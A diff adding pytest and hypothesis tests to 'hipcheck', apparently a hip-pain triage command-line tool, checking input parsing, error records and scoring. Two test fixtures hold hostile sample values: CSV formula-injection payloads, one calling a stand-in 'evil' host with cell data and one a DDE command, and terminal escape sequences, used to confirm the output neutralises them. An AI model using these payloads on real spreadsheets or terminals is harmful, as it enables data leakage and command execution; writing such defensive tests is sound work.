@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import json
+import math
 import os
 import random
 import subprocess
@@ -13,8 +14,16 @@ from pathlib import Path
 from typing import Any
 
 import pexpect
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from hipcheck.core.scoring import features, score
+from hipcheck.knowledge import KnowledgeBase
+from hipcheck.knowledge.when import Match, _holds_match, compile_when
 
 from .helpers import BIN
+from .strategies import KB, answers
 
 LINES = [
     {"id": "a", "location": ["outer_hip"], "triggers": ["single_leg"], "severity": 4},
@@ -151,6 +160,7 @@ def _generate(path: Path, n: int) -> Path:
     return path
 
 
+@pytest.mark.slow
 def test_memory_stays_flat_over_200000_lines(tmp_path: Path) -> None:
     small = _generate(tmp_path / "small.jsonl", 2_000)
     big = _generate(tmp_path / "big.jsonl", 200_000)
@@ -158,3 +168,235 @@ def test_memory_stays_flat_over_200000_lines(tmp_path: Path) -> None:
     small_rss = _max_rss_kib([exe, "batch", str(small)])
     big_rss = _max_rss_kib([exe, "batch", str(big)])
     assert big_rss - small_rss < 10 * 1024, (small_rss, big_rss)  # KiB
+
+
+# --- reliability review F3, F9, F10, F19 ----------------------------------------
+
+
+def hipcheck(*args: str, stdin: bytes | None = None) -> subprocess.CompletedProcess[bytes]:
+    return subprocess.run(
+        [str(BIN / "hipcheck"), *args], input=stdin, capture_output=True, timeout=60
+    )
+
+
+def jsonl_out(res: subprocess.CompletedProcess[bytes]) -> list[dict[str, Any]]:
+    return [json.loads(line) for line in res.stdout.decode().splitlines()]
+
+
+def test_csv_header_with_a_question_twice_is_refused(tmp_path: Path) -> None:
+    """`fever,fever` used to keep the last cell: `yes,no` became no fever."""
+    for header in ("id,fever,fever", "id,fever,Fever", "id,id,fever"):
+        src = tmp_path / "dup.csv"
+        src.write_text(f"{header}\nr1,yes,no\n")
+        res = hipcheck("batch", str(src), "--format", "csv")
+        key = "id" if header.count("id") == 2 else "fever"
+        assert res.returncode == 2 and res.stdout == b"", res.stderr
+        assert res.stderr.decode() == (
+            f"hipcheck: CSV header: '{key}' is given twice; give each question once\n"
+        )
+
+
+def test_jsonl_key_given_twice_is_an_error_record(tmp_path: Path) -> None:
+    src = tmp_path / "in.jsonl"
+    src.write_bytes(
+        b'{"id": "r1", "fever": true, "fever": false}\n'
+        b'{"id": "fever", "fever": true}\n'  # a value that names a key is not a repeat
+        b'{"id": "r3", "fev\\u0065r": true, "fever": false}\n'  # nor is it hidden by escapes
+        b'{"id": "r4", "fever": null, "severity": 3}\n'
+    )
+    docs = jsonl_out(hipcheck("batch", str(src)))
+    assert docs[0] == {
+        "id": "r1",
+        "line": 1,
+        "error": "line 1: 'fever' is given twice; give each question once",
+    }
+    assert docs[1]["triage"]["level"] == "emergency"
+    assert docs[2]["error"] == "line 3: 'fever' is given twice; give each question once"
+    assert docs[3]["answers"] == {"severity": 3}  # null: unanswered
+
+
+def test_bad_lines_become_error_records_and_the_run_goes_on(tmp_path: Path) -> None:
+    out = tmp_path / "out.jsonl"
+    src = tmp_path / "in.jsonl"
+    src.write_bytes(
+        b'{"id": "\xff", "severity": 4}\n'  # invalid UTF-8 inside a string
+        b"\x00\x01\x02\xfe binary\n"
+        b'{"id": "' + b"a" * (1024 * 1024 + 10) + b'"}\n'  # longer than the line limit
+        b'{"id": "good", "severity": 4}\n'
+    )
+    res = hipcheck("batch", str(src), "-o", str(out))
+    assert res.returncode == 1 and b"Traceback" not in res.stderr
+    docs = [json.loads(line) for line in out.read_text().splitlines()]
+    assert [d["line"] for d in docs] == [1, 2, 3, 4]
+    assert "not valid JSON" in docs[0]["error"] and "not valid JSON" in docs[1]["error"]
+    assert docs[2]["error"] == "line 3: longer than the limit of 1 MB"
+    assert docs[3]["id"] == "good" and "triage" in docs[3]
+
+
+def csv_rows(res: subprocess.CompletedProcess[bytes]) -> list[dict[str, str]]:
+    return list(csv.DictReader(res.stdout.decode().splitlines()))
+
+
+@pytest.mark.parametrize(
+    ("data", "expected"),
+    [
+        # bare CR line endings (old Excel for Mac) are line endings
+        (b"id,severity\r1,4\r2,5\r", [("1", "self_care"), ("2", "self_care")]),
+        # an unclosed quote spoils its own line only: r2 is kept
+        (
+            b'id,location,severity\n"r1,outer_hip,4\nr2,groin,5\n',
+            [("", "error"), ("r2", "self_care")],
+        ),
+        # a cell over the csv module's 131,072 characters
+        (b"id,severity\n" + b"x" * 200_000 + b",4\nr2,5\n", [("", "error"), ("r2", "self_care")]),
+        # invalid UTF-8 and binary
+        (
+            b"id,severity\nr\xff,4\n\x00\x9b\xfe\xfe,,,\nr3,4\n",
+            [("", "error"), ("", "error"), ("r3", "self_care")],
+        ),
+        # Excel's "CSV UTF-8" starts with a BOM
+        (b"\xef\xbb\xbfid,severity\nr1,4\n", [("r1", "self_care")]),
+    ],
+)
+def test_awkward_csv(tmp_path: Path, data: bytes, expected: list[tuple[str, str]]) -> None:
+    src = tmp_path / "in.csv"
+    src.write_bytes(data)
+    res = hipcheck("batch", str(src), "--format", "csv")
+    assert b"Traceback" not in res.stderr and res.returncode in (0, 1), res.stderr
+    rows = csv_rows(res)
+    got = [(r["id"], "error" if r["error"] else r["triage"]) for r in rows]
+    assert got == expected
+    assert res.returncode == (1 if any(e == "error" for _, e in expected) else 0)
+
+
+def test_jsonl_with_a_bom_is_read(tmp_path: Path) -> None:
+    src = tmp_path / "in.jsonl"
+    src.write_bytes(b'\xef\xbb\xbf{"id": "r1", "severity": 4}\n')
+    res = hipcheck("batch", str(src))
+    assert res.returncode == 0 and jsonl_out(res)[0]["id"] == "r1"
+
+
+def test_csv_on_stdin_gets_a_hint() -> None:
+    res = hipcheck("batch", "-", stdin=b"id,location\nr1,groin\n")
+    hint = (
+        b"hipcheck: standard input looks like CSV but is read as JSON Lines;"
+        b" give --input-format csv\n"
+    )
+    assert res.stderr.startswith(hint)
+    res = hipcheck("batch", "-", "--input-format", "csv", stdin=b"id,location\nr1,groin\n")
+    assert res.returncode == 0 and hint not in res.stderr
+    res = hipcheck("batch", "-", stdin=b'{"id": "a,b", "location": ["groin"]}\n')
+    assert res.returncode == 0 and res.stderr == b""
+
+
+IDS = ['=HYPERLINK("http://evil/?x="&A1)', "+cmd|calc", "-2+3", "@SUM(A1)", "\tx", "\rx", "ok"]
+
+
+def test_csv_output_neutralises_formulas_in_ids(tmp_path: Path) -> None:
+    src = write_jsonl(tmp_path / "in.jsonl", [{"id": i, "severity": 4} for i in IDS])
+    rows = csv_rows(hipcheck("batch", str(src), "--format", "csv"))
+    assert [r["id"] for r in rows] == ["'" + i for i in IDS[:4]] + ["\\u0009x", "\\u000dx", "ok"]
+
+
+ESCAPES = "\x1b]0;PWNED\x07\x1b[2J\x9b31m\x9d\u202e\x00\x7f"
+
+
+def test_control_characters_in_ids_never_reach_the_output_raw(tmp_path: Path) -> None:
+    src = write_jsonl(
+        tmp_path / "in.jsonl",
+        [{"id": ESCAPES, "severity": 4}, {"id": ESCAPES, "location": ESCAPES}],
+    )
+    raw = "".join(chr(c) for c in [*range(0x20), *range(0x7F, 0xA0)] if chr(c) != "\n") + "\u202e"
+    for fmt in ("jsonl", "csv"):
+        res = hipcheck("batch", str(src), "--format", fmt)
+        out, err = res.stdout.decode(), res.stderr.decode()
+        assert not any(ch in out for ch in raw), (fmt, out[:300])
+        assert not any(ch in err for ch in raw), (fmt, err)
+    docs = jsonl_out(hipcheck("batch", str(src)))
+    assert docs[0]["id"] == ESCAPES  # JSON escapes: the same id once decoded
+    rows = csv_rows(hipcheck("batch", str(src), "--format", "csv"))
+    assert rows[0]["id"] == "\\u001b]0;PWNED\\u0007\\u001b[2J\\u009b31m\\u009d\\u202e\\u0000\\u007f"
+
+
+def test_a_bad_csv_header_writes_nothing(tmp_path: Path) -> None:
+    src = tmp_path / "bad.csv"
+    src.write_bytes(b'"id,severity\nr1,4\n')
+    res = hipcheck("batch", str(src), "--format", "csv")
+    assert res.returncode == 2 and res.stdout == b""
+    assert res.stderr.decode().startswith("hipcheck: CSV header: line 1: ")
+
+
+# --- the speed-ups keep the results (batch throughput, issue 11) ---------------
+
+
+def _reference_score(kb: KnowledgeBase, answers: dict[str, Any]) -> list[tuple[Any, ...]]:
+    """docs/scoring.md written out plainly: ln prior + the ln ratios of the
+    answers in order, a softmax, evidence strongest first (ties in answer
+    order), conditions most likely first (ties in file order)."""
+    logits = [math.log(c.prior) for c in kb.conditions]
+    pro: list[list[tuple[str, str, float]]] = [[] for _ in kb.conditions]
+    con: list[list[tuple[str, str, float]]] = [[] for _ in kb.conditions]
+    for qid, value in features(kb, answers):
+        for i, c in enumerate(kb.conditions):
+            ratio = c.weights.get(f"{qid}.{value}")
+            if ratio is None:
+                continue
+            logits[i] += math.log(ratio)
+            if ratio != 1:
+                (pro if ratio > 1 else con)[i].append((qid, value, ratio))
+    top = max(logits)
+    exps = [math.exp(v - top) for v in logits]
+    rows = [
+        (
+            c.id,
+            exps[i] / sum(exps),
+            sorted(pro[i], key=lambda e: -e[2]),
+            sorted(con[i], key=lambda e: e[2]),
+        )
+        for i, c in enumerate(kb.conditions)
+    ]
+    return sorted(rows, key=lambda r: -r[1])
+
+
+@settings(max_examples=300, deadline=None)
+@given(answers())
+def test_scoring_matches_its_plain_definition(given_answers: dict[str, Any]) -> None:
+    got = [
+        (
+            s.id,
+            s.score,
+            [(e.question, e.value, e.ratio) for e in s.evidence_for],
+            [(e.question, e.value, e.ratio) for e in s.evidence_against],
+        )
+        for s in score(KB, given_answers)
+    ]
+    assert got == _reference_score(KB, given_answers)
+
+
+_VALUES = ["a", "b", "c"]
+_maybe_values = st.none() | st.lists(st.sampled_from(_VALUES), max_size=3).map(tuple)
+_maybe_number = st.none() | st.integers(-5, 15).map(float)
+matches_strategy = st.builds(
+    Match,
+    any=_maybe_values,
+    all=_maybe_values,
+    none=_maybe_values,
+    min=_maybe_number,
+    max=_maybe_number,
+    answered=st.none() | st.booleans(),
+)
+answer_values = (
+    st.none()
+    | st.booleans()
+    | st.sampled_from(_VALUES)
+    | st.lists(st.sampled_from(_VALUES), max_size=3).map(tuple)
+    | st.integers(-5, 15)
+    | st.floats(-5, 15)
+)
+
+
+@settings(max_examples=1000, deadline=None)
+@given(matches_strategy, answer_values)
+def test_compiled_match_tests_agree_with_their_definition(m: Match, value: Any) -> None:
+    answers = {} if value is None else {"q": value}
+    assert compile_when({"q": m})(answers) == _holds_match(m, value)
